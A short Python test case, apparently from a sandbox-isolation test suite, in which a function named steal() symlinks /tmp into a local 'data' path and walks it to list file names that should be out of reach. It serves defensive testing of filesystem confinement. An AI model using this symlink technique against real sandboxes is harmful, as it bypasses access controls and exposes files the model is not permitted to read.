# class: files
# rule: read_write_tmp
# success: the names below /tmp are listed by os.walk
# proof: read
import os

from attack import DIR, attempt


@attempt
def steal():
    os.symlink("/tmp", "data")
    return "\n".join(
        name for _, _, files in os.walk("data/" + os.path.basename(DIR)) for name in files
    )
